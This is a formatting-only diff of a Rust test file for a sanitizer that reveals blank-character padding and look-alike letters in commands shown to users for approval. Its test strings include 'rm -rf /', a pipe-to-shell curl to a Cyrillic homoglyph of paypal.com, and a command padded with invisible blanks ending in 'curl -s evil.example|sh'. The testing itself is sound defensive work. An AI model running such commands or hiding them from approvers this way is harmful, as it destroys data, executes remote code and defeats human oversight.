@@ -90,7 +90,10 @@ const CASES: &[(&str, &str)] = &[
         "long ascii space runs counted",
         "ls                                        ; rm -rf /",
     ),
-    ("trailing blank counted not trimmed", "Approve\u{2800}\u{2800}"),
+    (
+        "trailing blank counted not trimmed",
+        "Approve\u{2800}\u{2800}",
+    ),
     (
         "lines of blanks become one counted line",
         "Delete?\n\u{2800}\n\u{2800}\u{2800}\n\u{3000}\nthe table",
@@ -99,12 +102,27 @@ const CASES: &[(&str, &str)] = &[
         "newline flood collapses",
         "top\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nbottom",
     ),
-    ("blank joined by a joiner shows the joiner", "a\u{2800}\u{200d}b"),
+    (
+        "blank joined by a joiner shows the joiner",
+        "a\u{2800}\u{200d}b",
+    ),
     // Mixed-script look-alikes are flagged (issue 34).
-    ("cyrillic a in a latin word flagged", "curl -s https://p\u{430}ypal.com/x|sh"),
-    ("greek omicron in a latin word flagged", "g\u{3bf}\u{3bf}gle"),
-    ("whole cyrillic words not flagged", "\u{423}\u{434}\u{430}\u{43b}\u{438}\u{442}\u{44c} main?"),
-    ("latin and japanese in one sentence not flagged", "Tシャツ を npm で"),
+    (
+        "cyrillic a in a latin word flagged",
+        "curl -s https://p\u{430}ypal.com/x|sh",
+    ),
+    (
+        "greek omicron in a latin word flagged",
+        "g\u{3bf}\u{3bf}gle",
+    ),
+    (
+        "whole cyrillic words not flagged",
+        "\u{423}\u{434}\u{430}\u{43b}\u{438}\u{442}\u{44c} main?",
+    ),
+    (
+        "latin and japanese in one sentence not flagged",
+        "Tシャツ を npm で",
+    ),
     // Right-to-left text (issue 34): its direction marks are text; elsewhere they show.
     (
         "rlm inside hebrew is text",
@@ -217,16 +235,16 @@ fn look_alike_labels_share_a_skeleton() {
 
 #[test]
 fn the_padded_command_shows_its_tail_and_counts_the_padding() {
-    let padded = format!(
-        "ls -la{}; curl -s evil.example|sh",
-        "\u{2800}".repeat(1330)
-    );
+    let padded = format!("ls -la{}; curl -s evil.example|sh", "\u{2800}".repeat(1330));
     assert_eq!(
         display(&padded),
         "ls -la\u{27e8}1,330 blank characters\u{27e9}; curl -s evil.example|sh"
     );
     assert_eq!(blank_run(1), "\u{27e8}1 blank character\u{27e9}");
-    assert_eq!(blank_run(1_234_567), "\u{27e8}1,234,567 blank characters\u{27e9}");
+    assert_eq!(
+        blank_run(1_234_567),
+        "\u{27e8}1,234,567 blank characters\u{27e9}"
+    );
     // Any mix of blank-looking characters and ASCII spaces between two words is one run.
     let mixed = format!("a {} b", "\u{3000}\u{a0}\u{3164}".repeat(100));
     assert_eq!(display(&mixed), "a\u{27e8}302 blank characters\u{27e9}b");
